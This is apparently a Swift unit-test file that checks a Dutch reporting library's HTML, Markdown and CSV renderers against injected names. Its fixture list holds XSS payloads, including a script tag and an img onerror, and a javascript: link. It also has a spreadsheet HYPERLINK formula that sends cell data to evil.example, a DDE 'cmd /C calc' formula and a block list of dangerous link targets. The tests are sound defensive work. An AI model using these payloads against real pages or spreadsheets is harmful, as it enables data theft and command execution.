import Foundation
import XCTest
import RendementCore
@testable import RendementReports

/// Report markup and the two renderers on names that try to inject: every
/// injection of issue 15 in a title, heading, paragraph, bullet, table cell
/// and caption; links only where the document made them.
final class ReportEscapingTests: XCTestCase {
    static let names = [
        "[klik](javascript:alert%28document.domain%29)",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
        "+31 Utrecht", "-Utrecht", "@SUM(1+1)*cmd|' /C calc'!A0",
        "<img src=https://evil.example/x.png onerror=alert(1)>", "<script>alert(document.domain)</script>",
        "Midden\nBrabant | x", "Twente\rOost", "**vet** `code` \\ [a](b.md)", "1. lijst", "# kop",
    ]

    func testLiteralTextParsesBackToItself() {
        for name in Self.names {
            XCTAssertEqual(ReportMarkup.parse(ReportMarkup.literal(name), links: ["b.md"]), [.text(Escaping.singleLine(name))], name)
            XCTAssertEqual(ReportMarkup.parse(ReportMarkup.code(name)), [.code(Escaping.singleLine(name))], name)
        }
    }

    func testMarkupParsesBoldCodeAndOwnLinksOnly() {
        XCTAssertEqual(ReportMarkup.parse("**Landelijk.** De rest `x\\`y` [a](p.md)", links: ["p.md"]),
                       [.strong("Landelijk."), .text(" De rest "), .code("x`y"), .text(" "), .link(text: "a", target: "p.md")])
        XCTAssertEqual(ReportMarkup.parse("[klik](javascript:alert%28document.domain%29)", links: ["p.md"]),
                       [.text("[klik](javascript:alert%28document.domain%29)")], "a link the document did not make stays text")
        XCTAssertEqual(ReportMarkup.parse("**open"), [.text("**open")])
    }

    func testLinkTargetsAreRelativePagesOrWebAddressesOnly() {
        var doc = ReportDocument(title: "t", language: .nl)
        XCTAssertEqual(doc.link("Utrecht", to: "utrecht/rendement-2013Q2.md"), "[Utrecht](utrecht/rendement-2013Q2.md)")
        XCTAssertEqual(doc.link("x", to: "fryslân/a b.md"), "[x](frysl%C3%A2n/a%20b.md)")
        XCTAssertEqual(doc.link("x", to: "https://example.org/a(b)"), "[x](https://example.org/a%28b%29)")
        for bad in ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x", "/etc/passwd", "../x.md", "a//b.md", "", "vbscript:x", "file:///x"] {
            XCTAssertEqual(doc.link("[n]", to: bad), "\\[n\\]", "no link to \(bad)")
        }
        XCTAssertEqual(doc.links, ["utrecht/rendement-2013Q2.md", "frysl%C3%A2n/a%20b.md", "https://example.org/a%28b%29"])
    }

    /// A document with every name in every kind of block, and one link made by the document.
    private func hostileDocument() -> ReportDocument {
        var doc = ReportDocument(title: "Rendement " + ReportMarkup.literal(Self.names[0]), language: .nl)
        let link = doc.link(Self.names[6], to: "script/rendement-2013Q2.md")
        for name in Self.names.map(ReportMarkup.literal) {
            doc.heading(name)
            doc.paragraph("**Alle cliënten van \(name).** Tekst.")
            doc.bullets([name, "Bestand: " + name])
            doc.note(name)
        }
        doc.table(ReportTable(name: "t", caption: "Per " + ReportMarkup.literal(Self.names[7]),
                              header: ["Veiligheidshuis", "n"], rows: Self.names.map { [ReportMarkup.literal($0), "12"] } + [[link, "<10"]],
                              csvHeader: ["veiligheidshuis", "n"], csvRows: Self.names.map { [$0, "12"] } + [[Self.names[6], "-0.25"]]))
        doc.chart("c", "<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>", caption: ReportMarkup.literal(Self.names[5]))
        return doc
    }

    func testHTMLHasNoMarkupFromDataAndOnlyItsOwnLink() throws {
        let html = HTMLRenderer.render(hostileDocument())
        for bad in ["<script", "<img", "href=\"javascript", "onerror=alert(1)>"] {
            XCTAssertFalse(html.lowercased().contains(bad), "HTML contains \(bad)")
        }
        // The only anchor is the document's own link, to the HTML twin of its page.
        let anchors = try NSRegularExpression(pattern: "<a\\b[^>]*>").matches(in: html, range: NSRange(html.startIndex..., in: html))
        XCTAssertEqual(anchors.map { String(html[Range($0.range, in: html)!]) }, ["<a href=\"script/rendement-2013Q2.html\">"])
        XCTAssertFalse(html.contains("href=\"javascript"))
        XCTAssertTrue(html.contains("&lt;script&gt;alert(document.domain)&lt;/script&gt;"))
        XCTAssertTrue(html.contains("[klik](javascript:alert%28document.domain%29)"), "the name is shown as the text it is")
        XCTAssertTrue(html.contains("<strong>Alle cliënten van **vet** `code` \\ [a](b.md).</strong>"))
        // Every tag in the page is one the renderer writes.
        let tags = try NSRegularExpression(pattern: "<(/?)([a-zA-Z0-9!]+)").matches(in: html, range: NSRange(html.startIndex..., in: html))
            .map { String(html[Range($0.range(at: 2), in: html)!]).lowercased() }
        let allowed: Set<String> = ["!doctype", "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "h4", "h5", "h6", "p", "ul", "li",
                                    "figure", "table", "thead", "tbody", "tr", "th", "td", "figcaption", "aside", "strong", "code", "a", "svg"]
        XCTAssertEqual(Set(tags).subtracting(allowed), [])
    }

    /// The cells of a Markdown table row, split at unescaped `|` (as GitHub does).
    private func cells(_ line: Substring) -> [String] {
        var out: [String] = [], cell = "", escaped = false
        for c in line {
            if escaped { cell.append(c); escaped = false; continue }
            if c == "\\" { escaped = true; cell.append(c); continue }
            if c == "|" { out.append(cell); cell = "" } else { cell.append(c) }
        }
        out.append(cell)
        return out
    }

    func testMarkdownHasNoMarkupFromDataAndTablesStayWhole() {
        let md = MarkdownRenderer.render(hostileDocument(), filePrefix: "index")
        let lines = md.split(separator: "\n", omittingEmptySubsequences: false)
        // Every `<` is escaped: no raw HTML.
        for line in lines {
            var previous: Character = " "
            for c in line {
                if c == "<" { XCTAssertEqual(previous, "\\", "raw < in: \(line)") }
                previous = c
            }
        }
        // Links: only ours (the page, the CSV, the chart).
        let opener = try! NSRegularExpression(pattern: #"(?<!\\)\]\(([^)]*)\)"#)
        let links = opener.matches(in: md, range: NSRange(md.startIndex..., in: md)).map { String(md[Range($0.range(at: 1), in: md)!]) }
        XCTAssertEqual(Set(links), ["script/rendement-2013Q2.md", "index-t.csv", "index-c.svg"])
        // The table: header, rule and one line per row, each with three cell borders.
        let table = lines.filter { $0.hasPrefix("|") }
        XCTAssertEqual(table.count, 2 + Self.names.count + 1)
        for line in table { XCTAssertEqual(cells(line).count, 4, "row split or merged: \(line)") }
        // No line of text starts a list, a heading of its own or a quote.
        // After the block prefix the renderer writes, nothing starts another block.
        let blockStart = try! NSRegularExpression(pattern: #"^([-+=#>]|\d+[.)])"#)
        for line in lines where !line.hasPrefix("|") && !line.hasPrefix("*") && !line.hasPrefix("![") && !line.isEmpty {
            var text = Substring(line)
            for prefix in ["###### ", "##### ", "#### ", "### ", "## ", "# ", "- ", "> "] where text.hasPrefix(prefix) {
                text = text.dropFirst(prefix.count)
                break
            }
            let rest = String(text)
            XCTAssertNil(blockStart.firstMatch(in: rest, range: NSRange(rest.startIndex..., in: rest)), "a block starts in: \(line)")
        }
        XCTAssertTrue(md.contains("- \\-Utrecht"), "a list item from data does not start a nested list")
        XCTAssertTrue(md.contains("## 1\\. lijst"))
    }

    func testTableCSVNeutralisesFormulasAndKeepsNumbers() {
        let csv = hostileDocument().tables[0].csv
        XCTAssertTrue(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"klik\"\")\",12\n"))
        XCTAssertTrue(csv.contains("\"'+31 Utrecht\",12\n"))
        XCTAssertTrue(csv.contains("\"'-Utrecht\",12\n"))
        XCTAssertTrue(csv.contains("\"'@SUM(1+1)*cmd|' /C calc'!A0\",12\n"))
        XCTAssertTrue(csv.contains("\"Twente\rOost\",12\n"), "a bare CR is quoted")
        XCTAssertTrue(csv.contains(",-0.25\n"), "a number keeps its minus sign")
    }
}
